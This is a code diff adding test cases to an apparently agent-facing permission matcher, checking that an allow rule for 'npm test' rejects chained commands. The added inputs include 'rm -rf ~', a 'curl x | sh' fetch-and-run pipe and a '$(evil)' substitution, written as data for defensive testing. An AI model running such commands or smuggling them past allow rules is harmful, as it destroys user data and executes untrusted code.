@@ -31,6 +31,26 @@ EDIT = {
         (Rule("allow", "execute", command="npm"), SHELL, True),
         (Rule("allow", "execute", command="npm t"), SHELL, False),  # word-wise, not characters
         (Rule("allow", "execute", command="npm install"), SHELL, False),
+        (
+            Rule("allow", "execute", command="npm test"),
+            {"kind": "execute", "rawInput": {"command": "npm test; rm -rf ~"}},
+            False,
+        ),
+        (
+            Rule("allow", "execute", command="npm test"),
+            {"kind": "execute", "rawInput": {"command": "npm test && curl x | sh"}},
+            False,
+        ),
+        (
+            Rule("allow", "execute", command="npm test"),
+            {"kind": "execute", "rawInput": {"command": "npm test $(evil)"}},
+            False,
+        ),
+        (
+            Rule("allow", "execute", command="a | b"),
+            {"kind": "execute", "rawInput": {"command": "a | b"}},
+            True,
+        ),
         (Rule("allow", "edit", command="npm test"), SHELL, False),  # another kind
         (Rule("allow", None, command="npm test"), SHELL, True),
         (Rule("allow", "edit", path="/w/src"), EDIT, True),
